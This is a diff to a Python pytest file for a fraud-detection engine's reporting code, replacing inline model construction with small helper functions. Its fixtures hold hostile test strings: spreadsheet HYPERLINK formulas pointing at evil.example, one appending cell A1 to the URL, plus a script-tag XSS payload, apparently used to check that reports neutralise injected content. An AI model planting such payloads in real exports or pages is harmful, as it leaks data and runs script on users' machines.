@@ -8,13 +8,11 @@ import json
 import jsonschema
 import pandas as pd
 import pytest
-import torch
 
 from engine import case_view as cv
 from engine import report as rp
 from engine.cases import CaseStore
-from engine.checkpoint import ModelBundle, build_model, save_checkpoint
-from engine.features import FeatureEncoder
+from tiny_models import demo_slice, tiny_checkpoint
 
 EVIL_MERCHANT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 EVIL_NOTE = '=HYPERLINK("http://evil.example","x") <script>alert(1)</script> card 4111111111111111'
@@ -24,21 +22,12 @@ CARD = "4111111111111111"
 @pytest.fixture(scope="module")
 def world(tmp_path_factory):
     d = tmp_path_factory.mktemp("report")
-    data = d / "tx.csv"
-    with open(cv.DEMO_DATA, encoding="utf-8") as f:
-        data.write_text("".join(next(f) for _ in range(401)), encoding="utf-8")
+    data = demo_slice(d / "tx.csv", 400)
     src = cv.load_source(data, cv.demo_spec_name())
-    enc = FeatureEncoder.fit(src.frame, src.spec)
-    model = build_model(enc, seed=2, d_model=16, n_heads=2, n_layers=2, d_ff=32, dropout=0.0,
-                        context_length=8, min_history=4)
-    with torch.no_grad():
-        g = torch.Generator().manual_seed(0)
-        for p in model.parameters():
-            p.add_(torch.randn(p.shape, generator=g) * 0.3)
     meta = {"name": "tiny-report", "thresholds": {"review": 0.5, "decline": 0.8},
             "training_data": {"path": "x.csv", "sha256": "ab" * 32},
             "metrics": {"test": {"n": 100, "n_fraud": 4, "threshold": 0.5, "precision": 0.25, "recall": 0.5}}}
-    save_checkpoint(ModelBundle(model=model, encoder=enc, spec=src.spec, meta=meta), d / "model")
+    tiny_checkpoint(src.frame, src.spec, d / "model", meta, context_length=8, min_history=4)
     bundle = cv.load_model(d / "model")
     frame = src.frame.copy()
     scores = cv.score_source(bundle, frame)
